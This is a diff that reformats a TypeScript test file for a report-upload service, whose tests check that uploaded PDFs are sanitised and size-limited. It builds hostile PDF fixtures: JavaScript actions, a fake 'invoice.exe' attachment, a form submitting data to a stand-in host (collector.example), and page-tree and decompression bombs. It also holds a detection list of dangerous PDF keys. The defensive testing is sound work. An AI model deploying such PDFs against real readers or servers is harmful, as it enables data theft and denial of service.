@@ -1,6 +1,16 @@
 import { createHash } from "node:crypto";
 import { deflateSync } from "node:zlib";
-import { PDFArray, PDFDict, PDFDocument, PDFName, PDFNumber, PDFRawStream, type PDFRef, PDFString, StandardFonts } from "@cantoo/pdf-lib";
+import {
+  PDFArray,
+  PDFDict,
+  PDFDocument,
+  PDFName,
+  PDFNumber,
+  PDFRawStream,
+  type PDFRef,
+  PDFString,
+  StandardFonts,
+} from "@cantoo/pdf-lib";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { REPORT_MESSAGES, tooManyPagesMessage } from "../../../domain/report-rules.ts";
 import { insertBookingRow, pdfOf, receivedUpload, textIn } from "../../../test/report-fixtures.ts";
@@ -11,7 +21,18 @@ import { stampReport } from "./pdf-stamp.ts";
 const sha256 = (data: Buffer) => createHash("sha256").update(data).digest("hex");
 
 /** What makes a PDF run script, act on its own, carry files or hold a form (raw names as written in a file). */
-const DANGEROUS = ["/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFile", "/AcroForm", "/SubmitForm", "/Annots", "app.alert", "submitForm"];
+const DANGEROUS = [
+  "/JavaScript",
+  "/JS",
+  "/OpenAction",
+  "/AA",
+  "/EmbeddedFile",
+  "/AcroForm",
+  "/SubmitForm",
+  "/Annots",
+  "app.alert",
+  "submitForm",
+];
 
 /**
  * A 2-3 KB file whose page tree lists one node ten times at each of six levels: a million
@@ -22,7 +43,9 @@ async function pageTreeBomb(declaredCount = 1_000_000): Promise<Buffer> {
   const { context } = pdf;
   let node: PDFRef = context.register(context.obj({ Type: "Page", MediaBox: [0, 0, 595, 842] }));
   for (let level = 1, count = 10; level <= 6; level++, count *= 10) {
-    node = context.register(context.obj({ Type: "Pages", Kids: Array<PDFRef>(10).fill(node), Count: level === 6 ? declaredCount : count }));
+    node = context.register(
+      context.obj({ Type: "Pages", Kids: Array<PDFRef>(10).fill(node), Count: level === 6 ? declaredCount : count }),
+    );
   }
   pdf.catalog.set(PDFName.of("Pages"), node);
   // addDefaultPage would count the pages, walking the million.
@@ -37,14 +60,18 @@ async function pageTreeBomb(declaredCount = 1_000_000): Promise<Buffer> {
 async function scriptedPdf(): Promise<Buffer> {
   const pdf = await PDFDocument.create();
   const font = await pdf.embedFont(StandardFonts.Helvetica);
-  for (let i = 1; i <= 2; i++) pdf.addPage([595, 842]).drawText(`Haemoglobin 13.5 g/dL, page ${i}`, { x: 50, y: 780, size: 12, font });
+  for (let i = 1; i <= 2; i++)
+    pdf.addPage([595, 842]).drawText(`Haemoglobin 13.5 g/dL, page ${i}`, { x: 50, y: 780, size: 12, font });
   const { context, catalog } = pdf;
-  const script = (code: string) => context.register(context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) }));
+  const script = (code: string) =>
+    context.register(context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) }));
 
   catalog.set(PDFName.of("OpenAction"), script("app.alert('opened')"));
   catalog.set(PDFName.of("AA"), context.obj({ WC: script("app.alert('closing')") }));
   const attachment = context.register(context.flateStream("MZ not really a program", { Type: "EmbeddedFile" }));
-  const fileSpec = context.register(context.obj({ Type: "Filespec", F: PDFString.of("invoice.exe"), EF: { F: attachment } }));
+  const fileSpec = context.register(
+    context.obj({ Type: "Filespec", F: PDFString.of("invoice.exe"), EF: { F: attachment } }),
+  );
   catalog.set(
     PDFName.of("Names"),
     context.obj({
@@ -56,11 +83,18 @@ async function scriptedPdf(): Promise<Buffer> {
   const submit = context.obj({ S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://collector.example/form") } });
   const button = context.register(
     context.obj({
-      Type: "Annot", Subtype: "Widget", FT: "Btn", T: PDFString.of("send"), Rect: [400, 700, 500, 720], A: submit,
+      Type: "Annot",
+      Subtype: "Widget",
+      FT: "Btn",
+      T: PDFString.of("send"),
+      Rect: [400, 700, 500, 720],
+      A: submit,
       AA: { E: script("this.submitForm('https://collector.example/')") },
     }),
   );
-  const link = context.register(context.obj({ Type: "Annot", Subtype: "Link", Rect: [50, 760, 300, 800], A: script("app.alert('clicked')") }));
+  const link = context.register(
+    context.obj({ Type: "Annot", Subtype: "Link", Rect: [50, 760, 300, 800], A: script("app.alert('clicked')") }),
+  );
   catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [button] }));
   const [first] = pdf.getPages();
   first.node.set(PDFName.of("Annots"), context.obj([button, link]));
@@ -76,8 +110,16 @@ async function inflatingPdf(megabytes: number): Promise<Buffer> {
   const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20), { level: 9 });
   const report = await pdfOf(1);
   const end = report.lastIndexOf("%%EOF");
-  const stream = Buffer.from(`999 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`, "latin1");
-  return Buffer.concat([report.subarray(0, end), stream, packed, Buffer.from("\nendstream\nendobj\n%%EOF\n", "latin1")]);
+  const stream = Buffer.from(
+    `999 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
+    "latin1",
+  );
+  return Buffer.concat([
+    report.subarray(0, end),
+    stream,
+    packed,
+    Buffer.from("\nendstream\nendobj\n%%EOF\n", "latin1"),
+  ]);
 }
 
 /**
@@ -100,9 +142,15 @@ describe.each(testDialects())("report uploads on %s", (dialect) => {
 
   const upload = (bookingId: string, bytes: Buffer) => {
     const form = multipart(bytes, "report.pdf", "file", "application/pdf");
-    return t.app.inject({ method: "POST", url: `/api/bookings/${bookingId}/reports`, headers: { ...form.headers, cookie }, payload: form.payload });
+    return t.app.inject({
+      method: "POST",
+      url: `/api/bookings/${bookingId}/reports`,
+      headers: { ...form.headers, cookie },
+      payload: form.payload,
+    });
   };
-  const reportRows = (bookingId: string) => t.db.selectFrom("reports").select("id").where("booking_id", "=", bookingId).execute();
+  const reportRows = (bookingId: string) =>
+    t.db.selectFrom("reports").select("id").where("booking_id", "=", bookingId).execute();
 
   beforeAll(async () => {
     t = await createTestApp(dialect);
@@ -132,7 +180,13 @@ describe.each(testDialects())("report uploads on %s", (dialect) => {
     const { id } = await booking();
     const refused = await upload(id, await pdfOf(51));
     expect(refused.statusCode).toBe(400);
-    expect(refused.json().issues).toEqual([{ path: ["file"], message: "This PDF has more than 50 pages, the most a report may have. Upload the report's own pages, or split it into parts" }]);
+    expect(refused.json().issues).toEqual([
+      {
+        path: ["file"],
+        message:
+          "This PDF has more than 50 pages, the most a report may have. Upload the report's own pages, or split it into parts",
+      },
+    ]);
     expect(await reportRows(id)).toEqual([]);
 
     const taken = await upload(id, await pdfOf(50));
@@ -163,7 +217,12 @@ describe.each(testDialects())("report uploads on %s", (dialect) => {
       expect(objects, name).not.toContain(name);
     }
     const pdf = await PDFDocument.load(bytes);
-    expect(pdf.catalog.keys().map((key) => key.decodeText()).sort()).toEqual(["Pages", "Type"]);
+    expect(
+      pdf.catalog
+        .keys()
+        .map((key) => key.decodeText())
+        .sort(),
+    ).toEqual(["Pages", "Type"]);
     expect(pdf.getPageCount()).toBe(2);
     for (const page of pdf.getPages()) {
       expect(page.node.get(PDFName.of("Annots"))).toBeUndefined();
@@ -175,12 +234,17 @@ describe.each(testDialects())("report uploads on %s", (dialect) => {
     expect(text.split(report.verifyUrl).length - 1).toBe(2); // the stamp, once per page
 
     expect(sha256(bytes)).toBe(report.sha256);
-    expect(await t.services.reports.verify(report.verificationCode)).toMatchObject({ sha256: sha256(bytes), isFileRemoved: false });
+    expect(await t.services.reports.verify(report.verificationCode)).toMatchObject({
+      sha256: sha256(bytes),
+      isFileRemoved: false,
+    });
   });
 
   it("stamps five reports sent at once, each in its turn, while a refused one does not hold up the rest", async () => {
     const { id } = await booking();
-    const answers = await Promise.all([pdfOf(1), pdfOf(2), pageTreeBomb(), pdfOf(3), pdfOf(4), pdfOf(5)].map(async (bytes) => upload(id, await bytes)));
+    const answers = await Promise.all(
+      [pdfOf(1), pdfOf(2), pageTreeBomb(), pdfOf(3), pdfOf(4), pdfOf(5)].map(async (bytes) => upload(id, await bytes)),
+    );
     expect(answers.map((answer) => answer.statusCode)).toEqual([201, 201, 400, 201, 201, 201]);
     expect((await reportRows(id)).length).toBe(5);
     // Six workers one after another on a two-core machine (one core stays with the site).
@@ -196,7 +260,8 @@ describe.each(testDialects())("report uploads on %s", (dialect) => {
 
     const response = await upload(id, Buffer.from(await pdf.save()));
     expect(response.statusCode, response.body).toBe(201);
-    const bytes = (await t.app.inject({ url: `/api/reports/${response.json().id}/file`, headers: { cookie } })).rawPayload;
+    const bytes = (await t.app.inject({ url: `/api/reports/${response.json().id}/file`, headers: { cookie } }))
+      .rawPayload;
     expect(await textIn(bytes)).toContain("Haemoglobin 14.2 g/dL");
     const objects = await objectsOf(bytes);
     for (const name of ["/AcroForm", "/Annots", "/Widget"]) expect(objects, name).not.toContain(name);
@@ -218,7 +283,9 @@ describe.each(testDialects())("report uploads on %s", (dialect) => {
 
     const response = await upload(id, Buffer.from(await pdf.save()));
     expect(response.statusCode, response.body).toBe(201);
-    const stored = await PDFDocument.load((await t.app.inject({ url: `/api/reports/${response.json().id}/file`, headers: { cookie } })).rawPayload);
+    const stored = await PDFDocument.load(
+      (await t.app.inject({ url: `/api/reports/${response.json().id}/file`, headers: { cookie } })).rawPayload,
+    );
     const [copy] = stored.getPages();
     expect(copy.getSize()).toEqual({ width: 420, height: 595 });
     expect(copy.getRotation().angle).toBe(90);
